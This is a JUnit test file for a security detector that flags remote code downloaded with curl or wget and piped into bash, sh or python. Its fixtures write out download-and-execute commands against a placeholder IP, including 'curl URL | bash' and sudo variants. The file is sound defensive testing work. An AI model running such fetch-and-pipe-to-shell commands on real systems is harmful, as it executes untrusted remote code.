package io.hivesec.detectors.execution;

import static io.hivesec.testkit.HiveAssertions.assertThatFindings;
import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.alert.Finding;
import io.hivesec.testkit.Detecting;
import io.hivesec.testkit.Scene;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Pipes of which each end is a process of its own, and no command line holds both. */
final class PipedCommandsTest {
    private static final String DOWNLOADED = "malicious-command.download-execute";
    private static final String URL = "http://203.0.113.9/a";

    private final Scene scene = Scene.in("web-1");
    private final Scene.Actor shell = scene.starts("/bin/bash", "bash", "-i");

    private List<Finding> findings() {
        return Detecting.findings(new RemoteCodeDetector(), scene);
    }

    private void starts(String line) {
        String[] words = line.split(" ");
        shell.starts("/usr/bin/" + words[0], words);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "bash",
                "sh -s",
                "bash -",
                "bash --",
                "bash -s -- --yes",
                "bash -x",
                "bash -x -s 1",
                "python3 -",
                "python3 -u -",
                "sudo bash",
                "sudo -E bash -",
                "doas sh"
            })
    void inspect_fetchedIntoAShell_isFound(String reader) {
        starts("curl -fsSL " + URL);
        starts(reader);
        assertThat(findings())
                .singleElement()
                .extracting(finding -> finding.rule().id())
                .isEqualTo(DOWNLOADED);
    }

    @Test
    void inspect_shellStartsFirst_isFound() {
        starts("bash");
        starts("wget -qO- " + URL);
        assertThat(findings())
                .singleElement()
                .extracting(finding -> finding.rule().id())
                .isEqualTo(DOWNLOADED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "bash next.sh",
                "bash -x next.sh",
                "sudo bash next.sh",
                "sudo -E -H bash next.sh",
                "sudo -n true",
                "sudo -k",
                "python3 -m json.tool",
                "python3 -c print(1)",
                "perl -pe s/a/b/",
                "awk {print}",
                "grep ok",
                "sudo tee /etc/apt/keyrings/a.asc",
            })
    void inspect_readerThatRunsNothingOfIt_isQuiet(String reader) {
        starts("curl -fsSL " + URL);
        starts(reader);
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_savedAndAShellBesides_isQuiet() {
        starts("curl -fsSLo /tmp/a " + URL);
        starts("bash");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_shellMuchLater_isQuiet() {
        starts("curl -fsSL " + URL);
        scene.later(Duration.ofSeconds(2));
        starts("bash");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_pipeOnALine_isToldOnce() {
        Scene.Actor line = shell.starts("/bin/sh", "sh", "-c", "curl " + URL + " | bash");
        line.starts("/usr/bin/curl", "curl", URL);
        line.starts("/bin/bash", "bash");
        assertThat(findings())
                .singleElement()
                .extracting(finding -> finding.rule().id())
                .isEqualTo(DOWNLOADED);
    }

    @Test
    void inspect_serverStartsBoth_isQuiet() {
        Scene.Actor runner = scene.starts("/usr/bin/runner", "runner");
        runner.starts("/usr/bin/curl", "curl", URL);
        runner.starts("/bin/bash", "bash");
        assertThatFindings(findings()).areNone();
    }
}
